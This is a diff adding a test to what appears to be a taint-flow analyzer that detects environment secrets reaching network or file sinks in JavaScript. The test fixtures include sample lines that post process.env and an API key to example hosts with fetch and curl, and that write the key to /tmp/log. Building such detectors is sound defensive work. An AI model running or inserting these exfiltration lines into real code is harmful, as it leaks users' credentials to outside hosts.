@@ -278,3 +278,14 @@ def test_nesting_does_not_hide_a_secret(depth: int) -> None:
     source = ('fetch("https://n.example.org", { method: "POST", body: '
               + "[" * depth + "process.env" + "]" * depth + " });\n")
     assert flows(source) == {("env.read(*)", 1, "net.connect(n.example.org)", 1, ())}
+
+
+def test_what_a_program_or_a_file_api_is_given_besides_its_data_is_no_flow() -> None:
+    source = ('const { spawn } = require("child_process");\n'
+              'const fs = require("fs");\n'
+              'spawn("git", ["push"], { env: { ...process.env, GIT_TERMINAL_PROMPT: "0" } });\n'
+              'fs.writeFileSync(process.env.HOME + "/.cache/x.json", "{}");\n'
+              'spawn("curl", ["-d", process.env.API_KEY, "https://q.example.org"]);\n'
+              'fs.appendFileSync("/tmp/log", process.env.API_KEY);\n')
+    assert flows(source) == {("env.read(API_KEY)", 5, "net.connect(q.example.org)", 5, ()),
+                             ("env.read(API_KEY)", 6, "fs.write(/tmp/log)", 6, ())}
